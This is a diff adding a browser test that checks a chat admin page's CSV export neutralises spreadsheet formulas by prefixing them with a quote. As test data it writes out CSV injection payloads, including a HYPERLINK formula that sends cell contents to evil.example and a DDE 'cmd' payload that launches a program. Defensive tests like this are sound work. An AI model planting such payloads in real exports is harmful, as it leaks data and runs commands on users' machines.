@@ -243,6 +243,37 @@ class AdminPageTests(BrowserCase):
         yield self.noExternalFetches()
 
     @inlineCallbacks
+    def test_csvFormulasInert(self) -> Inline:
+        """
+        A cell of the CSV export that a spreadsheet would take for a
+        formula (users write what they like: C{=HYPERLINK(...)}, C{@SUM},
+        C{+}, C{-}, a leading tab) starts with C{'}, so that opening the
+        export runs nothing; numbers, other text and the JSON export are
+        as they were.
+        """
+        yield self.login("alice", "alice", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")")
+        yield self.login("bob", "bob", "Bob")
+        contents = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "-5", "a=b", "1.5"]
+        for content in contents:
+            yield self.driver.emit("alice", "message", {"toId": "bob", "content": content, "type": "text"}, ack=True)
+        yield self.signIn()
+        yield self.browser.click("nav a[data-view=messages]")
+        yield self.browser.fill("#export-user", "alice")
+        yield self.browser.fill("#export-peer", "bob")
+        yield self.browser.click("#export-run")
+        yield self.browser.waitFor(f"document.querySelectorAll('#messages-table tbody tr').length === {len(contents)}")
+        download = yield self.browser.download("#export-json")
+        self.assertEqual([m["content"] for m in json.loads(download["text"])], contents)
+        download = yield self.browser.download("#export-csv")
+        rows = list(csv.DictReader(io.StringIO(download["text"].lstrip("\ufeff"))))
+        self.assertEqual(
+            [r["content"] for r in rows],
+            ["'=1+2", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1", "-5", "a=b", "1.5"],
+        )
+        self.assertEqual({r["fromName"] for r in rows}, {"'=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"})
+        self.assertEqual({r["seq"] for r in rows} & {""}, set())
+
+    @inlineCallbacks
     def test_recallRow(self) -> Inline:
         """
         The export's Recall button recalls the row clicked and no other:
